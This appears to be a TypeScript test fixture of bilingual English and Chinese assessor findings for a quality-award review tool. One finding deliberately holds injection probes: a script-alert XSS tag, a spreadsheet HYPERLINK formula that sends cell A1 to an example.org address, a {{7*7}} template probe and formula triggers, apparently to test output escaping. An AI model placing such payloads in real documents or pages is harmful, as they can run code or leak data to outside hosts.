// What the people of the assessors' story write: as panels do, in two languages, at length, with formulas of quality
// control, and with all that a careless reader of text might run.
import type { FindingInput } from '../../src/core/review/finding.ts'

export const organizationName = 'Harbour Precision Works (港城精密机械有限公司)'

export const programme = {
  programme: { name: 'City Quality Award (城市质量奖)', description: 'Once a year.' },
  cycle: '2026',
  recognition: {
    code: 'city-award',
    name: { en: 'City Quality Award', 'zh-CN': '城市质量奖' },
    awardingBody: 'City Quality Association',
    scope: 'total',
    validFrom: '2026-01-01',
    validTo: null,
    bands: [
      { code: 'commended', from: 400, label: { en: 'Commended', 'zh-CN': '鼓励奖' } },
      { code: 'award', from: 500, label: { en: 'Award', 'zh-CN': '质量奖' } },
      { code: 'grand-award', from: 650, label: { en: 'Grand award', 'zh-CN': '质量大奖' } },
    ],
  },
} as const

/** Words that stand in what must never leave the panel. */
export const sealed = {
  review: 'SEALED-REVIEW',
  note: 'SEALED-NOTE',
  visit: 'SEALED-VISIT',
} as const

const finding = (
  nodeCode: string,
  kind: FindingInput['kind'],
  text: string,
  other: Partial<FindingInput> = {},
): FindingInput => ({
  nodeCode,
  kind,
  text,
  language: /\p{Script=Han}/u.test(text) ? 'zh-CN' : 'en',
  importance: 'normal',
  factor: null,
  evidence: '',
  keyFactors: [],
  sources: [],
  ...other,
})

export const findings: readonly FindingInput[] = [
  finding(
    '4.1',
    'strength',
    '领导层以身作则，每半年走访全部四个厂区，公开回答员工提问，并在两周内公布承诺事项的完成情况。',
    { importance: 'double', evidence: '申报材料 4.1.2 a，第 7 页' },
  ),
  finding(
    '4.1.2',
    'strength',
    'Senior leaders visit every site twice a year and answer questions in public; what was promised is listed, given an owner and reported on the notice board within two weeks.',
    {
      factor: 'deployment',
      evidence: 'Answer 4.1.2, pages 7 to 9',
      keyFactors: ['Four sites', 'Three shifts'],
    },
  ),
  finding(
    '4.1.2',
    'opportunity',
    'It is not shown how the visits themselves are evaluated.\nNo example was given of a change to their form, their frequency or their questions in the past three years.',
    { factor: 'learning', evidence: 'Answer 4.1.2, page 9' },
  ),
  finding(
    '4.1.4',
    'strength',
    'The targets for energy follow from a measured balance of each line (η = P₂ / P₁ ≥ 92 %, ΔT ≤ 3 °C, CO₂ −18 % since 2022), and suppliers are asked for theirs.',
    { factor: 'approach' },
  ),
  finding(
    '4.2.2',
    'opportunity',
    'The analysis of risks names currency, energy and the dependence on one customer; how the three are weighed against each other, who decides, and at which point a plan is changed, is described for currency alone. For energy there is a forecast without thresholds. For the dependence on one customer there is the intention to grow with others, without a share, a date or a person who answers for it. Minutes of three of the four meetings of the strategy committee record no decision that follows from the analysis.',
    {
      importance: 'double',
      factor: 'approach',
      evidence: 'Answer 4.2.2 b; minutes of the strategy committee, January to October',
      keyFactors: ['One customer buys more than half of what is made'],
    },
  ),
  finding(
    '4.2.3',
    'strength',
    'Each objective has a measure, a target and one person; the same five figures hang in every hall.',
  ),
  finding(
    '4.3.2',
    'opportunity',
    '顾客之声的收集渠道较多（走访、热线、线上问卷、展会、售后工单），但尚未看到各渠道信息如何汇总、去重和排序，也未说明由哪个部门、按什么频次将结论反馈给研发和生产。对流失顾客和潜在顾客的了解主要依靠销售人员的个人经验，没有形成固定的调查方法；近三年的问卷样本量由 412 份降至 187 份，材料未对其代表性作出说明。',
    { factor: 'deployment', evidence: '申报材料 4.3.2，第 21–24 页' },
  ),
  finding('4.3.3', 'strength', '投诉在 24 小时内答复，关闭率连续三年保持在 98 % 以上。'),
  finding(
    '4.4.2',
    'strength',
    'Training follows from a matrix of skills that each foreman keeps with the crew.',
  ),
  finding(
    '4.4.4',
    'opportunity',
    'Texts of the system are copied into reports unread: a field held <script>alert("x")</script>, another =HYPERLINK("http://example.org/?q="&A1;"open"), and a third {{7*7}} & "quoted" \\ *stars* | pipes.',
    { evidence: '=1+1, @sum, <b>bold</b>' },
  ),
  finding(
    '4.5.3',
    'strength',
    'Control charts with x̄ ± 3σ and Cₚₖ ≥ 1.33 are kept at 46 of 52 critical operations; limits are reckoned anew each quarter (α = 0.0027, n = 5, √n in the denominator, Σ over the subgroups).',
    { importance: 'double', factor: 'deployment', evidence: 'Answer 4.5.3, table 12' },
  ),
  finding(
    '4.6.3',
    'opportunity',
    'Improvement is counted in proposals (1 904 in a year); of how many were carried out, and with what effect, there is no figure.',
    { factor: 'integration' },
  ),
  finding(
    '4.7.2',
    'opportunity',
    '未提供主要竞争对手的对比数据，也没有说明目标值的来源，因此难以判断所列趋势在行业中处于什么水平。',
    { importance: 'double', factor: 'comparisons', evidence: '图 7.1-3' },
  ),
  finding('4.7.4', 'strength', 'Return on assets rose four years in a row, from 5.1 % to 8.7 %.', {
    factor: 'trends',
  }),
  finding('4.7.7', 'opportunity', 'Results on governance are told for one year only.'),
]

export const texts = {
  keyFactors: [
    'Four sites in two provinces, 420 people, three shifts',
    'One customer buys more than half of what is made',
    '出口占销售额的 38 %，其中一半以上以欧元结算',
    '2024 年完成股权改制，管理团队平均任期 2.5 年',
  ],
  summaries: {
    '4.1':
      'Leaders are seen, heard and asked at every site, and what they promise is followed up. 领导力是该组织最突出的优势；走访制度自身的评价与改进，是下一步可以着力之处。',
    '4.2':
      'Strategy is made in a fixed rhythm and reaches every hall. What happens when an assumption fails is thought through for one risk out of three.',
    '4.5':
      '过程管理以统计过程控制为主线，覆盖面广、数据完整。\n供应商过程的延伸控制尚处于试点阶段。',
    '4.7':
      'Most trends are favourable over three to five years. Comparisons with competitors, and with the best, are rare.',
  },
} as const
